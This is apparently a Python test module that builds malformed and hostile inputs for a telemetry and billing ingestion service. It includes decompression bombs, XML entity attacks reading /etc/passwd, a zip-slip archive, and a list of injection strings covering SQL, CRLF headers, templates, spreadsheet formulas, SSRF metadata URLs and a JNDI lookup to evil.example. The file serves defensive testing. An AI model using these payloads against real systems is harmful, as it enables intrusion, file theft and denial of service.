"""Kinds of bad input that are no JSON, or not JSON alone: OTLP, compression, XML, bills, HTTP, injection."""

import gzip
import io
import zipfile
import zlib
from collections.abc import Iterator

import zstandard

from tests import bills, otlp
from tests.badinput.files import FORM, JSON, PROTOBUF, File, dump, everywhere, good_bodies, taken

MiB = 1 << 20


def bad_otlp() -> Iterator[File]:
    whole = otlp.body(otlp.span(1, said={"airflow.dag_id": "orders"}), otlp.span(2, parent=1, error="no"))
    for size in range(0, 12):
        yield File(f"cut after {len(whole) * size // 12} bytes", whole[: len(whole) * size // 12], PROTOBUF)
    for place in range(12):
        flipped = bytearray(whole)
        flipped[len(whole) * place // 12] ^= 0xFF
        yield File(f"byte {len(whole) * place // 12} flipped", bytes(flipped), PROTOBUF)
    nested = b""
    for _ in range(300):
        nested = b"\x2a" + _varint(len(nested) + _size(nested)) + b"\x0a" + _varint(len(nested)) + nested
    yield File("300 values within each other", b"\x0a" + _varint(len(nested)) + nested, PROTOBUF)
    yield File("an unknown field", whole + b"\xfa\xff\x03\x02hi", PROTOBUF)
    yield File("a length beyond the end", b"\x0a\xff\xff\xff\xff\x0f", PROTOBUF)
    yield File("a length of 2^63", b"\x0a" + _varint(1 << 63), PROTOBUF)
    yield File("a varint without end", b"\x0a" + b"\xff" * 100, PROTOBUF)
    yield File("groups", b"\x0b" * 1_000, PROTOBUF)
    yield File("only zeros", bytes(1_000), PROTOBUF)
    yield File("JSON that says it is protobuf", dump(good_bodies()["spans"]), PROTOBUF)
    yield File("protobuf that says it is JSON", whole, JSON)
    yield File("ids of zeros", otlp.body(otlp.span(0, trace=bytes(16))), PROTOBUF)
    yield File("ids too short", otlp.body(otlp.span(1, trace=b"\x01\x02")), PROTOBUF)
    yield File("an end before the beginning", otlp.body(otlp.span(1, seconds=-1.0)), PROTOBUF)
    yield File("a span of the year 2500", otlp.body(otlp.span(1, at=15e9)), PROTOBUF)
    yield File("10,000 attributes", otlp.body(otlp.span(1, said={f"a{n}": n for n in range(10_000)})), PROTOBUF)
    yield File("a name of 1 MB", otlp.body(otlp.span(1, "x" * MiB)), PROTOBUF)
    yield File("its own parent", otlp.body(otlp.span(1, parent=1)), PROTOBUF)
    yield File("a circle of parents", otlp.body(otlp.span(1, parent=2), otlp.span(2, parent=1)), PROTOBUF)


def _varint(number: int) -> bytes:
    out = bytearray()
    while number > 0x7F:
        out.append(number & 0x7F | 0x80)
        number >>= 7
    return bytes([*out, number])


def _size(body: bytes) -> int:
    return 1 + len(_varint(len(body)))


def compression() -> Iterator[File]:
    event = dump(good_bodies()["run event"])
    zipped, squeezed = gzip.compress(event, mtime=0), zstandard.compress(event)
    zeros = gzip.compress(bytes(100 * MiB), 9, mtime=0)
    for name, body, encoding in [
        ("100 MiB of zeros", zeros, "gzip"),
        ("100 MiB of zeros, not said", zeros, ""),
        ("100 MiB of zeros", zlib.compress(bytes(100 * MiB), 9), "deflate"),
        ("100 MiB of zeros", zstandard.compress(bytes(100 * MiB), 19), "zstd"),
        ("gzip in gzip", gzip.compress(zeros, mtime=0), "gzip"),
        ("gzip in gzip, said twice", gzip.compress(zipped, mtime=0), "gzip, gzip"),
        ("cut", zipped[: len(zipped) // 2], "gzip"),
        ("without its sum", zipped[:-8], "gzip"),
        ("with a wrong sum", zipped[:-8] + bytes(8), "gzip"),
        ("and something after it", zipped + b"trailing", "gzip"),
        ("and a second one", zipped + zipped, "gzip"),
        ("only a head", zipped[:10], "gzip"),
        ("plain", event, "gzip"),
        ("plain", event, "zstd"),
        ("plain", event, "deflate"),
        ("raw deflate", zlib.compress(event)[2:-4], "deflate"),
        ("zlib", zlib.compress(event), "gzip"),
        ("gzip", zipped, "zstd"),
        ("zstd", squeezed, "gzip"),
        ("zstd, not said", squeezed, ""),
        ("zstd, cut", squeezed[:-3], "zstd"),
        ("zstd, with a window of 2 GiB", b"\x28\xb5\x2f\xfd\x00\xa8" + squeezed[6:], "zstd"),
        ("zstd, and something after it", squeezed + b"trailing", "zstd"),
        ("zstd, skippable", b"\x50\x2a\x4d\x18\x04\x00\x00\x00abcd" + squeezed, "zstd"),
        ("in upper case", zipped, "GZIP"),
        ("brotli", event, "br"),
        ("compress", event, "compress"),
        ("a wrong word", event, "utf-8"),
        ("a long word", event, "x" * 4_000),
        ("nothing", b"", "gzip"),
        ("nothing", b"", "zstd"),
        ("nothing", b"", "deflate"),
        ("nothing, zipped", gzip.compress(b"", mtime=0), "gzip"),
        ("a folder of zip", _zip({"a.json": event}), "gzip"),
        ("noise", bytes(range(256)) * 16, "gzip"),
        ("noise", bytes(range(256)) * 16, "deflate"),
        ("noise", bytes(range(256)) * 16, "zstd"),
        ("with a name of 1 MB", b"\x1f\x8b\x08\x08" + bytes(6) + b"n" * MiB + b"\x00" + zipped[10:], "gzip"),
        ("with reserved flags", b"\x1f\x8b\x08\xe0" + zipped[4:], "gzip"),
        ("identity", event, "identity"),
    ]:
        yield File(f"{name} ({encoding[:20]})", body, JSON, encoding)


def _zip(files: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, body in files.items():
            archive.writestr(name, body)
    return out.getvalue()


def xml() -> Iterator[File]:
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    documents = {
        "billion laughs": f'<!DOCTYPE l [<!ENTITY l0 "lol">{laughs}]><l>&l9;</l>',
        "quadratic": f'<!DOCTYPE l [<!ENTITY a "{"a" * 50_000}">]><l>{"&a;" * 10_000}</l>',
        "a file": '<!DOCTYPE l [<!ENTITY f SYSTEM "file:///etc/passwd">]><l>&f;</l>',
        "an address": '<!DOCTYPE l [<!ENTITY f SYSTEM "http://127.0.0.1:1/x">]><l>&f;</l>',
        "an outer DTD": '<!DOCTYPE l SYSTEM "http://127.0.0.1:1/x.dtd"><l/>',
        "a parameter entity": '<!DOCTYPE l [<!ENTITY % p SYSTEM "file:///etc/passwd"> %p;]><l/>',
        "an include": '<l xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="/etc/passwd" parse="text"/></l>',
        "deep": "<a>" * 20_000 + "</a>" * 20_000,
        "a thousand attributes": "<a " + " ".join(f'a{n}="1"' for n in range(1_000)) + "/>",
        "cut": "<Response><Gather",
    }
    for name, document in documents.items():
        for kind in ("application/xml", "text/xml; charset=utf-16", JSON):
            yield File(f"{name} as {kind}", document.encode(), kind)
        yield File(f"{name} in a form", b"Body=" + document.encode(), FORM)


def bad_bills() -> Iterator[File]:
    good = bills.text([bills.line(1, "1.10"), bills.line(2, "2.20")])
    head, *lines = good.splitlines(keepends=True)
    changes: dict[str, dict[str, str]] = {
        "no number": {"BilledCost": "much"},
        "a comma for a point": {"BilledCost": "1,10"},
        "thousands": {"BilledCost": "1,000.00"},
        "forty digits": {"BilledCost": "1" * 40},
        "forty decimals": {"BilledCost": "0." + "1" * 40},
        "an exponent": {"BilledCost": "1e400"},
        "NaN": {"BilledCost": "NaN"},
        "Infinity": {"BilledCost": "-Infinity"},
        "an empty amount": {"BilledCost": ""},
        "a credit of more than there is": {"BilledCost": "-99999999999999.99"},
        "a currency of its own": {"BillingCurrency": "U$D"},
        "no currency": {"BillingCurrency": ""},
        "a day that is none": {"ChargePeriodStart": "2024-02-30T00:00:00Z"},
        "a period that ends before it begins": {"BillingPeriodEnd": "2024-08-01T00:00:00Z"},
        "a period of a thousand years": {"BillingPeriodEnd": "3024-08-01T00:00:00Z"},
        "another month": {"BillingPeriodStart": "2031-01-01T00:00:00Z", "BillingPeriodEnd": "2031-02-01T00:00:00Z"},
        "tags that are no JSON": {"Tags": "{'a': 1"},
        "tags that are nested": {"Tags": "[" * 5_000},
        "tags twice": {"Tags": '{"a": "1", "a": "2"}'},
        "a formula": {"ServiceName": "=cmd|' /C calc'!A0"},
        "a NUL": {"ServiceName": "a\0b"},
        "a quoted line break": {"ServiceName": "a\nb"},
        "a service of 1 MB": {"ServiceName": "x" * MiB},
    }
    for name, change in changes.items():
        yield File(name, bills.text([bills.line(1, "1"), bills.line(2, "1", **change)]).encode(), "text/csv")
    for name, raw in {
        "a byte order mark": b"\xef\xbb\xbf" + good.encode(),
        "utf-16": good.encode("utf-16"),
        "only a head": head.encode(),
        "no head": "".join(lines).encode(),
        "a head twice": (head + head + lines[0]).encode(),
        "a column twice": bills.text([bills.line()], (*bills.COLUMNS, "BilledCost")).encode(),
        "a column too few": good.replace("BilledCost,", "", 1).encode(),
        "an open quote": (head + '"' + lines[0]).encode(),
        "uneven rows": (head + lines[0].rstrip() + ",,,,\n" + "1,2\n").encode(),
        "semicolons": bills.text([bills.line()], delimiter=";").encode(),
        "latin-1": good.replace("EC2", "Fläche").encode("latin-1"),
        "nothing": b"",
        "one line of 1 MB": b"x," * (MiB // 2),
        "Parquet that is cut": b"PAR1" + bytes(64) + b"PAR1",
        "Parquet with a huge foot": b"PAR1" + b"\xff\xff\xff\x7f" + b"PAR1",
        "a zip that climbs": _zip({"../../../tmp/escaped.csv": good.encode()}),
        "gzip of zeros": gzip.compress(bytes(20 * MiB), 9, mtime=0),
    }.items():
        yield File(name, raw, "text/csv")


def http() -> Iterator[File]:
    event, sample = dump(good_bodies()["run event"]), dump(good_bodies()["sample"])
    kinds = [
        *("", "text/plain", "application/json; charset=utf-16", "application/json;;;", "APPLICATION/JSON", "*/*"),
        *("multipart/form-data", "multipart/form-data; boundary=x", "image/png", "application/x-ndjson", "x" * 2_000),
        *(FORM, PROTOBUF, "application/json, application/xml", "text/html", "application/cloudevents+json"),
    ]
    for kind in kinds:
        yield File(f"an event as {kind[:40]}", event, kind)
        yield File(f"a sample as {kind[:40]}", sample, kind)
    for name, raw in {
        "a form of 200 fields": b"&".join(b"a%d=1" % number for number in range(200)),
        "a form with one name 5,000 times": b"a=1&" * 5_000,
        "a form of percents": b"%" * 1_000,
        "a form with NULs": b"code=%00%00&csrf_token=%ff%fe",
        "a form with surrogates": b"code=%ed%a0%80",
        "a form of half a payload": b"payload=%7B%22type%22",
        "a form with a payload of lists": b"payload=" + b"%5B" * 20_000,
        "a form without names": b"=&=&=",
    }.items():
        yield File(name, raw, FORM)


def injection() -> Iterator[File]:
    texts = [
        "'; DROP TABLE facts; --",
        "1 OR 1=1",
        "a\r\nSet-Cookie: x=1\r\n\r\n<html>",
        "\x1b[2J\x1b[31mred\x07",
        "{labels.__class__}{{7*7}}${7*7}#{7*7}<%= 7*7 %>",
        '=HYPERLINK("http://evil.example","x")',
        "+1+cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "\t=1+1",
        "<script>alert(1)</script><img src=x onerror=alert(1)>",
        "<!channel> <@U0000001> <http://evil.example|https://good.example>",
        "*bold* _italic_ ~struck~ `code` ```block```",
        "+491701234567\r\n+491701234568",
        "a@example.com\r\nBcc: everybody@example.com",
        'project = OPS OR key = "OPS-1" ORDER BY created',
        "Queue = 'General' OR id > 0",
        "https://169.254.169.254/latest/meta-data/",
        "../../../../etc/passwd\x00.csv",
        "${jndi:ldap://evil.example/a}",
        "\u202egnp.exe\u2066\u2069\ufeff",
    ]
    yield from taken(everywhere([(f"{text[:24]!r}", dump(text)) for text in texts]))
